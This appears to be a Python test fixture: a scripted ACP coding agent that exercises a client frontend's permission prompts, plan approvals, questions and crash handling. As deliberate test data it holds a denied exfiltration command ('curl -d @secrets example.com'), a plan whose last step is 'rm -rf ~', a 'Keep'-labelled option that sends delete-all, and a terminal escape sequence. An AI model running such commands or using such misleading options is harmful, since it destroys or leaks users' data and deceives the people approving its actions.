"""A scripted ACP agent written with the SDK's agent side, run as a real child process.

``python -m tests.acp_frontend.sdk_agent`` speaks ACP on stdio like claude-agent-acp or codex-acp
do: it streams message and thought chunks, announces each tool call twice (first empty,
then titled, as the real adapters do), asks permission before it writes a file, and
writes it only when allowed. The prompt picks the scenario:

- ``write``: asks to run ``echo hello > out.txt`` (offering allow once, allow always,
  reject once and reject always), appends the option picked to ``choices.txt``, and
  creates ``out.txt`` when allowed;
- ``edit``: a diff on ``app.py`` reported on completion;
- ``plan``: a three-step plan, then an answer;
- ``wait``: asks permission and then waits to be cancelled (the client stops the turn);
- ``think``: a thought in several chunks, then an answer;
- ``commands``: lists two slash commands (``available_commands_update``), then answers;
- ``die``: says a word, then its process ends at once with status 7 (a crash);
- ``sleep N``: runs ``sleep N`` as a command of its own (a tool call in progress), writes
  its own process id and the command's to ``sleep-pids.txt``, and waits for it;
  ``sleep-detached N`` starts it in a session of its own, as Node's ``detached`` does;
  ``sleep-die N`` starts it, then the agent's process ends at once with status 9;
  ``sleep-killed N`` starts it, writes a debug line to stderr and is killed (SIGKILL);
- ``burst N``: N message chunks and N/20 tool calls, for the benchmark;
- ``ask N``: N permission requests in a row, each answer's arrival time logged;
- ``elicit KIND``: asks its own question (``elicitation/create``) shaped like Claude's
  AskUserQuestion (``claude``), Codex's request_user_input (``codex``), a number and a
  yes/no (``number``), several choices (``multi``), a secret (``secret``), 40 choices two
  of which read "Keep" (``keep``) or an address (``url``); the response
  it received is appended as one JSON line to ``elicitation.txt``; ``elicit huge`` is a
  16.6 MB form of 127,000 fields (issue 29 item 6), and an error answer is logged as
  ``{"error": {"code": ..., "message": ...}}``;
- ``late-elicit``: ends the turn, then (once ``go-late.txt`` exists in its folder) asks
  the ``codex`` question, after its turn; the response is logged as for ``elicit``;
- ``exitplan``: Claude's plan approval (ExitPlanMode): a plan and four options, two of
  them "always" (mode switches); the option picked is appended to ``choices.txt``;
  ``exitplan-danger`` the same with twelve steps, the last one ``rm -rf ~``;
  ``exitplan-late`` asks first and sends the plan in a tool_call_update after it;
- ``--cli auth login`` (arguments): its terminal login, which ``SDK_AGENT_NEEDS_LOGIN``
  offers in ``authMethods`` (with ``SDK_AGENT_LOGIN_ENV``, a JSON object, as its ``env``);
  it asks for ``yes`` on the terminal and writes ``logged-in.txt``, after which
  ``session/new`` needs no login;
- ``notice``: two session notices (info, warning), then an answer;
- ``compact``: a compaction (in progress, its summary, completed), the context 95% full,
  and a subagent (Claude's Agent tool) that starts and finishes, then an answer;
- ``run FILE``: asks to run the command written in FILE in its folder (titled by the
  command, any length) and appends the option picked to ``choices.txt``;
- ``remove``: asks to run ``rm -rf build`` (high risk: an accept takes two keys, once the
  question was heard) and appends the option picked to ``choices.txt``;
- ``review``: Codex's approval reviewer ("Guardian Review") allows one command and
  denies another, as codex-acp reports them;
- anything else: a short answer in three chunks.

``--settings``: its session has modes and two config options (a model and an approval
mode, ``SETTINGS``), which it changes when asked and logs to ``settings.txt``;
``--sessions``: it lists two old sessions and resumes one when asked (``settings.txt``);
``--modes``: modes only (no config options), so a client must use ``session/set_mode``.
``--long-settings``: eight config options, as Claude's adapter has: the status line that
says them when the session starts takes seconds to say (``LONG_SETTINGS``).

``SDK_AGENT_START_WHEN=FILE`` (environment): ``session/new`` is answered only once FILE
exists (a slow start the test ends when it likes; at most 30 s).

``--tag NAME`` (several agents in one folder): its title is NAME, every prompt it gets is
appended to ``prompts-NAME.txt``, every permission answer to ``answers-NAME.txt``, its
process id to ``pid-NAME.txt``, and the files it writes are called ``out-NAME.txt`` and
``permission-outcome-NAME.txt``.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sys
import time
from pathlib import Path
from typing import Any

import acp
from acp import schema

#: ``elicit KIND``: the params of each kind of question (wire form), without the session
ELICITATIONS: dict[str, dict[str, Any]] = {
    "claude": {
        "mode": "form",
        "toolCallId": "ask-1",
        "message": "Which database should the app use?",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "question_0": {
                    "type": "string",
                    "title": "Database",
                    "oneOf": [
                        {"const": "SQLite", "title": "SQLite", "description": "One file"},
                        {"const": "Postgres", "title": "Postgres", "description": "A server"},
                    ],
                },
                "question_0_custom": {
                    "type": "string",
                    "title": "Other",
                    "description": "Type your own answer, or add a note (optional).",
                },
            },
        },
    },
    "codex": {
        "mode": "form",
        "message": "Codex needs your input to continue.",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "colour": {
                    "type": "string",
                    "title": "Which colour for the button?",
                    "oneOf": [
                        {"const": "Red", "title": "Red"},
                        {"const": "Blue", "title": "Blue"},
                        {"const": "Other", "title": "Other"},
                    ],
                },
            },
            "required": ["colour"],
        },
    },
    "number": {
        "mode": "form",
        "message": "How should I retry?",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "retries": {"type": "integer", "title": "Retries", "minimum": 1, "maximum": 5},
                "verbose": {"type": "boolean", "title": "Verbose logs"},
            },
            "required": ["retries", "verbose"],
        },
    },
    "multi": {
        "mode": "form",
        "message": "Which checks should run?",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "checks": {
                    "type": "array",
                    "title": "Checks",
                    "items": {
                        "anyOf": [
                            {"const": "lint", "title": "Lint"},
                            {"const": "types", "title": "Types"},
                            {"const": "tests", "title": "Tests"},
                        ]
                    },
                },
            },
            "required": ["checks"],
        },
    },
    "secret": {
        "mode": "form",
        "message": "Codex needs your input to continue.",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "token": {
                    "type": "string",
                    "title": "Deploy token",
                    "_meta": {"codex": {"isSecret": True}},
                },
            },
            "required": ["token"],
        },
    },
    # 40 options, two of them read "Keep" (the second sends delete-all): issue 29, item 11
    "keep": {
        "mode": "form",
        "message": "What should happen to the old backups?",
        "requestedSchema": {
            "type": "object",
            "properties": {
                "backups": {
                    "type": "string",
                    "title": "Backups",
                    "oneOf": [
                        {"const": "keep", "title": "Keep"},
                        {"const": "delete-all", "title": "Keep"},
                        *({"const": f"k{n}", "title": f"Keep {n} days"} for n in range(3, 41)),
                    ],
                },
            },
            "required": ["backups"],
        },
    },
    "url": {
        "mode": "url",
        "elicitationId": "oauth-1",
        "url": "https://auth.example.com/connect?id=oauth-1",
        "message": "Please authorize access to your repositories.",
    },
}


def huge_form() -> dict[str, Any]:
    """A 16.6 MB form (under the 16 MiB line limit): 127,000 fields with a title and words."""
    properties = {
        f"field_{index}": {
            "type": "string",
            "title": f"Field number {index}",
            "description": "Type anything at all into this field, please.",
        }
        for index in range(127_000)
    }
    return {
        "mode": "form",
        "message": "Fill in every field.",
        "requestedSchema": {"type": "object", "properties": properties},
    }


#: ``--settings``: the session's modes and config options (wire form)
SETTINGS: dict[str, Any] = {
    "modes": {
        "currentModeId": "auto",
        "availableModes": [
            {"id": "ask", "name": "Ask before edits"},
            {"id": "auto", "name": "Auto review"},
        ],
    },
    "configOptions": [
        {"id": "model", "name": "Model", "category": "model", "type": "select",
         "currentValue": "gpt-5", "options": [
             {"value": "gpt-5", "name": "GPT-5"}, {"value": "gpt-5-mini", "name": "GPT-5 mini"}]},
        {"id": "approval", "name": "Approval", "category": "mode", "type": "select",
         "currentValue": "auto", "options": [
             {"value": "ask", "name": "Ask before edits"},
             {"value": "auto", "name": "Auto review"}]},
    ],
}  # fmt: skip


def review_update(call_id: str, status: str, verdict: str, action: str) -> Any:
    lines = f"Status: {verdict}\nAction: shell {action}\nRisk: low\nRationale: tidy up"
    return acp.update_tool_call(
        call_id, status=status, content=[acp.tool_content(acp.text_block(lines))]
    )


#: ``--long-settings``: a status line of some forty words ("Mode: Ask before edits. Model: …")
LONG_SETTINGS: list[dict[str, Any]] = [
    {"id": option_id, "name": name, "category": category, "type": "select",
     "currentValue": "on",
     "options": [{"value": "on", "name": value}, {"value": "off", "name": "Off"}]}
    for option_id, name, category, value in (
        ("mode", "Mode", "mode", "Ask before every edit and every command"),
        ("model", "Model", "model", "Claude Opus, the most capable model for complex work"),
        ("effort", "Reasoning effort", "thought_level", "High, with extended thinking"),
        ("style", "Output style", "other", "Explanatory, with insights as it works"),
        ("context", "Context window", "other", "Two hundred thousand tokens"),
        ("sandbox", "Sandbox", "other", "Workspace folder only, no network"),
        ("review", "Code review", "other", "After every change"),
        ("ultracode", "Ultracode", "other", "Off for this session"),
    )
]  # fmt: skip


#: ``SDK_AGENT_NEEDS_LOGIN``: its ``authMethods``; every ``session/new`` needs a login
LOGINS = [
    {"id": "sub", "name": "Claude Subscription", "type": "terminal",
     "args": ["--cli", "auth", "login"], "env": {"SCRIPTED_LOGIN": "terminal"}},
    {"id": "key", "name": "API key", "type": "env_var", "vars": [{"name": "ANTHROPIC_API_KEY"}]},
]  # fmt: skip


#: written by the terminal login (``--cli auth login``) in its folder; then no login is needed
LOGGED_IN = "logged-in.txt"


def terminal_login() -> int:
    """The agent's own interactive login, as ``claude-agent-acp --cli auth login`` is: it
    asks on the terminal and exits 0 once logged in (ACP terminal auth)."""
    print("Scripted login. Type yes to log in:", flush=True)
    if sys.stdin.readline().strip() != "yes":
        print("Not logged in.", flush=True)
        return 1
    Path(LOGGED_IN).write_text(os.environ.get("SCRIPTED_LOGIN", "") + "\n")
    print("Logged in.", flush=True)
    return 0


class ScriptedAgent:
    def __init__(self, tag: str | None = None, settings: str | None = None) -> None:
        self.settings = settings
        self.config = json.loads(json.dumps(SETTINGS))
        self.tag = tag
        self.conn: Any = None
        self.cwd = Path.cwd()
        self.cancelled = asyncio.Event()

    def on_connect(self, conn: Any) -> None:
        self.conn = conn

    async def initialize(self, protocol_version: int, **_: Any) -> schema.InitializeResponse:
        if os.environ.get("SDK_AGENT_NEEDS_LOGIN"):
            logins = json.loads(json.dumps(LOGINS))
            if os.environ.get("SDK_AGENT_LOGIN_ENV"):  # the environment the agent chooses
                logins[0]["env"] = json.loads(os.environ["SDK_AGENT_LOGIN_ENV"])
            return schema.InitializeResponse.model_validate(
                {"protocolVersion": acp.PROTOCOL_VERSION, "authMethods": logins}
            )
        if "--sessions" in sys.argv:  # it can list and resume its sessions
            return schema.InitializeResponse.model_validate({
                "protocolVersion": acp.PROTOCOL_VERSION,
                "agentInfo": {"name": "scripted", "title": "Scripted Agent", "version": "1"},
                "agentCapabilities": {"sessionCapabilities": {"list": {}, "resume": {}}},
            })  # fmt: skip
        return schema.InitializeResponse(
            protocol_version=acp.PROTOCOL_VERSION,
            agent_info=schema.Implementation(
                name="scripted", title=self.tag or "Scripted Agent", version="1"
            ),
        )

    def file(self, name: str) -> Path:
        """``out.txt``, or ``out-TAG.txt`` when several agents share the folder."""
        if self.tag:
            stem, dot, ext = name.partition(".")
            name = f"{stem}-{self.tag}{dot}{ext}"
        return self.cwd / name

    def log(self, name: str, line: str) -> None:
        if self.tag:
            with self.file(name).open("a", encoding="utf-8") as handle:
                handle.write(line + "\n")

    async def new_session(self, cwd: str, **_: Any) -> schema.NewSessionResponse:
        if os.environ.get("SDK_AGENT_NEEDS_LOGIN") and not (Path(cwd) / LOGGED_IN).exists():
            raise acp.RequestError.auth_required()
        self.cwd = Path(cwd)
        self.log("pid.txt", str(os.getpid()))
        start_when = os.environ.get("SDK_AGENT_START_WHEN")
        if start_when:  # a slow start: session/new answers once the test made this file
            for _ in range(600):  # at most 30 s
                if Path(start_when).exists():
                    break
                await asyncio.sleep(0.05)
        if self.settings == "settings":
            return schema.NewSessionResponse.model_validate({"sessionId": "sess-1", **self.config})
        if self.settings == "long-settings":
            return schema.NewSessionResponse.model_validate(
                {"sessionId": "sess-1", "configOptions": LONG_SETTINGS}
            )
        if self.settings == "modes":
            return schema.NewSessionResponse.model_validate(
                {"sessionId": "sess-1", "modes": self.config["modes"]}
            )
        return schema.NewSessionResponse(session_id="sess-1")

    async def set_config_option(
        self, config_id: str, session_id: str, value: str | bool, **_: Any
    ) -> schema.SetSessionConfigOptionResponse:
        with (self.cwd / "settings.txt").open("a") as log:
            log.write(f"config {config_id} {value}\n")
        for option in self.config["configOptions"]:
            if option["id"] == config_id:
                option["currentValue"] = value
        return schema.SetSessionConfigOptionResponse.model_validate(
            {"configOptions": self.config["configOptions"]}
        )

    async def list_sessions(self, **_: Any) -> schema.ListSessionsResponse:
        return schema.ListSessionsResponse.model_validate({"sessions": [
            {"sessionId": "old-1", "cwd": str(self.cwd), "title": "Fix the login bug"},
            {"sessionId": "old-2", "cwd": str(self.cwd), "title": "Write the release notes"},
        ]})  # fmt: skip

    async def resume_session(self, session_id: str, cwd: str, **_: Any) -> Any:
        with (self.cwd / "settings.txt").open("a") as log:
            log.write(f"resume {session_id}\n")
        return schema.ResumeSessionResponse()

    async def set_session_mode(self, session_id: str, mode_id: str, **_: Any) -> Any:
        with (self.cwd / "settings.txt").open("a") as log:
            log.write(f"mode {mode_id}\n")
        await self.conn.session_update(
            session_id,
            schema.CurrentModeUpdate(session_update="current_mode_update", current_mode_id=mode_id),
        )
        return schema.SetSessionModeResponse()

    async def cancel(self, session_id: str, **_: Any) -> None:
        self.cancelled.set()

    async def late_elicitation(self, session_id: str) -> None:
        go = self.cwd / "go-late.txt"
        for _ in range(600):  # bounded: 60 s at most
            if go.exists():
                break
            await asyncio.sleep(0.1)
        params = {**ELICITATIONS["codex"], "sessionId": session_id}
        answer = await self.conn._conn.send_request("elicitation/create", params)
        with self.file("elicitation.txt").open("a", encoding="utf-8") as log:
            log.write(json.dumps(answer) + "\n")

    async def say(self, session_id: str, *chunks: str) -> None:
        for chunk in chunks:
            await self.conn.session_update(session_id, acp.update_agent_message_text(chunk))

    async def ask(
        self, session_id: str, call_id: str, title: str, kind: str, never: bool = True
    ) -> str | None:
        always = (
            "Always allow"
            if never
            else ("Yes, and don't ask again for commands that start with `echo hello`")
        )  # codex-acp's own words for its accept_execpolicy_amendment
        options = [
            schema.PermissionOption(option_id="always", name=always, kind="allow_always"),
            schema.PermissionOption(option_id="once", name="Allow", kind="allow_once"),
            schema.PermissionOption(option_id="no", name="Reject", kind="reject_once"),
        ]
        if never:  # codex-acp 2.6.0 offers an "always" and no "never" (write-no-never)
            options.append(
                schema.PermissionOption(
                    option_id="never", name="Always reject", kind="reject_always"
                )
            )
        call = schema.ToolCallUpdate(tool_call_id=call_id, title=title, kind=kind)
        answer = await self.conn.request_permission(session_id, call, options)
        outcome = answer.outcome
        choice = getattr(outcome, "option_id", None)
        self.log("answers.txt", f"{call_id} {choice or outcome.outcome}")
        return choice

    async def tool(
        self, session_id: str, call_id: str, title: str, kind: str, **extra: Any
    ) -> None:
        # Real adapters send the call first with no title, then fill it in.
        await self.conn.session_update(
            session_id, acp.start_tool_call(call_id, "", kind=kind, status="pending")
        )
        await self.conn.session_update(
            session_id,
            acp.update_tool_call(call_id, title=title, kind=kind, status="pending", **extra),
        )

    async def prompt(self, prompt: list[Any], session_id: str, **_: Any) -> schema.PromptResponse:
        text = " ".join(getattr(block, "text", "") for block in prompt).strip()
        self.cancelled.clear()
        self.log("prompts.txt", text)
        if text in ("write", "write-no-never"):
            await self.say(session_id, "I will create the file. ")
            await self.tool(
                session_id, "call-1", "echo hello > out.txt", "execute",
                raw_input={"command": "echo hello > out.txt", "description": "Create out.txt"},
            )  # fmt: skip
            choice = await self.ask(
                session_id, "call-1", "echo hello > out.txt", "execute", never=text == "write"
            )
            with self.file("choices.txt").open("a") as log:
                log.write(f"{choice}\n")  # which of its options the client picked
            if choice in ("once", "always"):
                self.file("out.txt").write_text("hello\n")
                await self.conn.session_update(
                    session_id, acp.update_tool_call("call-1", status="completed")
                )
                await self.say(session_id, "Created out.txt.")
            else:
                await self.conn.session_update(
                    session_id, acp.update_tool_call("call-1", status="failed")
                )
                return schema.PromptResponse(stop_reason="end_turn")
        elif text.startswith("run "):
            # the command in the named file of its folder, titled by itself, as Claude's
            # adapter titles an execute call (any length, any bytes: issue 29)
            command = self.cwd.joinpath(text.split()[1]).read_text(encoding="utf-8")
            call_id = f"call-run-{text.split()[1]}"
            await self.tool(session_id, call_id, command, "execute",
                            raw_input={"command": command})  # fmt: skip
            choice = await self.ask(session_id, call_id, command, "execute")
            with self.file("choices.txt").open("a") as log:
                log.write(f"{choice}\n")
            await self.say(session_id, "Ran it." if choice in ("once", "always") else "Left it.")
        elif text == "remove":
            await self.tool(session_id, "call-rm", "rm -rf build", "delete",
                            raw_input={"command": "rm -rf build"})  # fmt: skip
            choice = await self.ask(session_id, "call-rm", "rm -rf build", "delete")
            with self.file("choices.txt").open("a") as log:
                log.write(f"{choice}\n")
            await self.say(session_id, "Removed the build folder." if choice else "Left it.")
        elif text == "edit":
            target = str(self.cwd / "app.py")
            await self.tool(session_id, "call-2", "Edit app.py", "edit",
                            locations=[schema.ToolCallLocation(path=target)])  # fmt: skip
            diff = acp.tool_diff_content(target, "a = 1\nb = 3\nc = 4\n", "a = 1\nb = 2\n")
            await self.conn.session_update(
                session_id, acp.update_tool_call("call-2", status="completed", content=[diff])
            )
            await self.say(session_id, "Edited the file.")
        elif text == "plan":
            entries = [
                acp.plan_entry("Read the code", status="completed"),
                acp.plan_entry("Fix the bug", status="in_progress"),
                acp.plan_entry("Run the tests", status="pending"),
            ]
            await self.conn.session_update(session_id, acp.update_plan(entries))
            await self.conn.session_update(session_id, acp.update_plan(entries))
            await self.say(session_id, "Working on the fix.")
        elif text == "wait":
            await self.tool(session_id, "call-3", "rm -rf build", "delete")
            waiting = asyncio.ensure_future(
                self.ask(session_id, "call-3", "rm -rf build", "delete")
            )
            await self.cancelled.wait()
            choice = await asyncio.wait_for(waiting, 10)
            self.file("permission-outcome.txt").write_text(str(choice))
            return schema.PromptResponse(stop_reason="cancelled")
        elif text == "code":  # a code block and an address, which speech shortens
            await self.say(
                session_id,
                "Here is the fix:\n\n```python\ndef total(items):\n    return sum(items)\n```\n\n",
                "See https://packaging.python.org/en/latest/tutorials/packaging-projects/ "
                "for more.",
            )
        elif text == "think":
            for piece in ("The user wants ", "a greeting, ", "so I will greet them."):
                await self.conn.session_update(session_id, acp.update_agent_thought_text(piece))
            await self.say(session_id, "Hello there.")
        elif text == "die":
            await self.say(session_id, "Starting. ")
            print("fatal: the scripted agent crashed on purpose", file=sys.stderr, flush=True)
            os._exit(7)
        elif text.split()[0] in ("sleep", "sleep-detached", "sleep-die", "sleep-killed"):
            how, seconds = text.split()[:2]
            await self.tool(session_id, "call-sleep", f"sleep {seconds}", "execute")
            await self.conn.session_update(
                session_id, acp.update_tool_call("call-sleep", status="in_progress")
            )
            command = await asyncio.create_subprocess_exec(
                "sleep", seconds, start_new_session=how == "sleep-detached"
            )
            self.file("sleep-pids.txt").write_text(f"{os.getpid()} {command.pid}\n")
            await self.say(session_id, "The command is running. ")
            if how == "sleep-die":
                os._exit(9)
            if how == "sleep-killed":  # killed (SIGKILL) with a debug line as its last output
                print("[session/create] sessionId=s1 phase=register durationMs=2", file=sys.stderr)
                sys.stderr.flush()
                os.kill(os.getpid(), signal.SIGKILL)
            await command.wait()
        elif text.startswith("ask"):
            # ``ask N``: N permission requests in a row; each answer's arrival time (the
            # system-wide monotonic clock) is appended to ``answers.txt`` for the benchmark.
            count = int(text.split()[1])
            with (self.cwd / "answers.txt").open("a") as log:
                for index in range(count):
                    call = f"ask-{index}"
                    choice = await self.ask(session_id, call, f"touch f{index}", "edit")
                    log.write(f"{time.monotonic()} {choice}\n")
                    log.flush()
        elif text.startswith("late-elicit"):
            # the turn ends first; the question comes once the test says the client saw
            # the end (it creates ``go-late.txt``): an elicitation after its turn ended
            self.late = asyncio.ensure_future(self.late_elicitation(session_id))
            await self.say(session_id, "Done for now.")
        elif text.startswith("elicit"):
            kind = text.split()[1]
            if kind == "claude":  # the adapter announces its tool call first
                await self.tool(session_id, "ask-1", "AskUserQuestion", "other")
            form = huge_form() if kind == "huge" else ELICITATIONS[kind]
            params = {**form, "sessionId": session_id}
            try:
                answer = await self.conn._conn.send_request("elicitation/create", params)
            except acp.RequestError as exc:
                answer = {"error": {"code": exc.code, "message": str(exc)}}
            with self.file("elicitation.txt").open("a", encoding="utf-8") as log:
                log.write(json.dumps(answer) + "\n")
            if "error" in answer:
                await self.say(session_id, "My question was refused, so I go on without it.")
            else:
                await self.say(session_id, "Thank you for answering.")
        elif text == "review":
            reviews = (
                ("g1", "Approved", "rm old_notes.txt"),
                ("g2", "Denied", "curl -d @secrets example.com"),
            )
            for call, verdict, action in reviews:
                call_id = f"guardian_assessment:{call}"
                await self.conn.session_update(
                    session_id,
                    acp.start_tool_call(call_id, "Guardian Review", kind="think",
                                        status="in_progress"),
                )  # fmt: skip
                status = "completed" if verdict == "Approved" else "failed"
                await self.conn.session_update(
                    session_id, review_update(call_id, status, verdict, action)
                )
            await self.say(session_id, "Reviewed.")
        elif text == "exitplan-late":  # the plan comes in an update after the question
            options = [
                schema.PermissionOption(option_id="default", kind="allow_once",
                                        name="Yes, manually approve edits"),
                schema.PermissionOption(option_id="plan", kind="reject_once",
                                        name="No, keep planning"),
            ]  # fmt: skip
            call = schema.ToolCallUpdate(tool_call_id="exit-2", title="Ready to code?",
                                         kind="switch_mode")  # fmt: skip
            asking = asyncio.ensure_future(self.conn.request_permission(session_id, call, options))
            await asyncio.sleep(0.3)  # the question is out; its plan follows
            plan = "1. Read `auth.py`\n2. Fix the token check\n"
            await self.conn.session_update(
                session_id,
                acp.update_tool_call("exit-2", raw_input={"plan": plan}),
            )
            answer = await asking
            choice = getattr(answer.outcome, "option_id", None) or answer.outcome.outcome
            with self.file("choices.txt").open("a") as log:
                log.write(f"{choice}\n")
            await self.say(session_id, "Plan answered.")
        elif text in ("exitplan", "exitplan-danger"):  # Claude's plan approval and its options
            options = [
                schema.PermissionOption(option_id="clearAuto", kind="allow_always",
                                        name="Yes, clear context and use auto mode"),
                schema.PermissionOption(option_id="auto", kind="allow_always",
                                        name="Yes, and use auto mode"),
                schema.PermissionOption(option_id="default", kind="allow_once",
                                        name="Yes, manually approve edits"),
                schema.PermissionOption(option_id="plan", kind="reject_once",
                                        name="No, keep planning"),
            ]  # fmt: skip
            plan = (
                "## Fix the login bug\n\n1. Read `auth.py`\n2. Fix the token check\n"
                "3. Run the tests\n"
            )
            if text == "exitplan-danger":  # twelve steps, the last one destroys the home folder
                plan += "".join(f"{n}. Tidy module {n}\n" for n in range(4, 12))
                plan += "12. Clean up with `rm -rf ~`\n"
            call = schema.ToolCallUpdate(tool_call_id="exit-1", title="Ready to code?",
                                         kind="switch_mode", raw_input={"plan": plan})  # fmt: skip
            answer = await self.conn.request_permission(session_id, call, options)
            choice = getattr(answer.outcome, "option_id", None) or answer.outcome.outcome
            with self.file("choices.txt").open("a") as log:
                log.write(f"{choice}\n")
            await self.say(session_id, "Plan answered.")
        elif text == "notice":  # ACP session notices, as claude-agent-acp sends them
            for severity, title in (("info", "Compacting the conversation"),
                                    ("warning", "Credit balance is low")):  # fmt: skip
                update = {"sessionUpdate": "notice", "severity": severity, "title": title}
                await self.conn._conn.send_notification(
                    "session/update", {"sessionId": session_id, "update": update}
                )
            await self.say(session_id, "Noted.")
        elif text == "compact":  # ACP compaction, context use and a subagent (issue 33)
            raw = [
                {"sessionUpdate": "compaction_update", "compactionId": "c1",
                 "status": "in_progress"},
                {"sessionUpdate": "compaction_summary_chunk", "compactionId": "c1",
                 "content": {"type": "text", "text": "The user wants tests."}},
                {"sessionUpdate": "compaction_update", "compactionId": "c1",
                 "status": "completed"},
                {"sessionUpdate": "usage_update", "used": 190_000, "size": 200_000},
                {"sessionUpdate": "tool_call", "toolCallId": "sub-1", "title": "Explore the code",
                 "kind": "think", "status": "in_progress",
                 "_meta": {"claudeCode": {"toolName": "Agent"}}},
                {"sessionUpdate": "tool_call_update", "toolCallId": "sub-1",
                 "status": "completed", "_meta": {"claudeCode": {"toolName": "Agent"}}},
            ]  # fmt: skip
            for update in raw:
                await self.conn._conn.send_notification(
                    "session/update", {"sessionId": session_id, "update": update}
                )
            await self.say(session_id, "Compacted.")
        elif text == "suggest":  # prompt suggestions, both forms (issue 33, item 5)
            raw = [
                {"sessionUpdate": "prompt_suggestions_update",  # ACP's (unstable) form
                 "suggestions": [{"prompt": [{"type": "text", "text": "Run the tests"}]},
                                 {"prompt": [{"type": "text", "text": "  "}]}]},
                {"sessionUpdate": "session_info_update",
                 "_meta": {"promptSuggestions": {"suggestions": [
                     {"text": "Commit the fix"}, {"text": "Open a pull request\x1b[2J"}]}}},
            ]  # fmt: skip
            await self.say(session_id, "Fixed.")
            for update in raw:
                await self.conn._conn.send_notification(
                    "session/update", {"sessionId": session_id, "update": update}
                )
        elif text == "commands":
            commands = [
                schema.AvailableCommand(name="review", description="Review the changes"),
                schema.AvailableCommand(name="init", description="Write an AGENTS.md file"),
            ]
            await self.conn.session_update(
                session_id,
                schema.AvailableCommandsUpdate(
                    session_update="available_commands_update", available_commands=commands
                ),
            )
            await self.say(session_id, "Two commands are available.")
        elif text.startswith("burst"):
            count = int(text.split()[1])
            for index in range(count):
                await self.say(
                    session_id, f"Word {index}. " if index % 10 == 9 else f"word{index} "
                )
                if index % 20 == 0:
                    call = f"b-{index}"
                    await self.tool(session_id, call, f"ls dir{index}", "read")
                    await self.conn.session_update(
                        session_id, acp.update_tool_call(call, status="completed")
                    )
        else:
            await self.say(session_id, "Hello. ", "This is the scripted agent. ", "Done.")
        return schema.PromptResponse(stop_reason="end_turn")


def main() -> None:
    if sys.argv[1:4] == ["--cli", "auth", "login"]:
        sys.exit(terminal_login())
    if os.environ.get("SDK_AGENT_FAIL_AT_START"):
        print("cannot start: no model configured", file=sys.stderr)
        sys.exit(3)
    tag = sys.argv[sys.argv.index("--tag") + 1] if "--tag" in sys.argv else None
    settings = next(
        (a[2:] for a in sys.argv if a in ("--settings", "--modes", "--long-settings")), None
    )
    # session/resume is still "unstable" in the SDK: enabled only where it is used
    unstable = "--sessions" in sys.argv
    asyncio.run(acp.run_agent(ScriptedAgent(tag, settings), use_unstable_protocol=unstable))


if __name__ == "__main__":
    main()
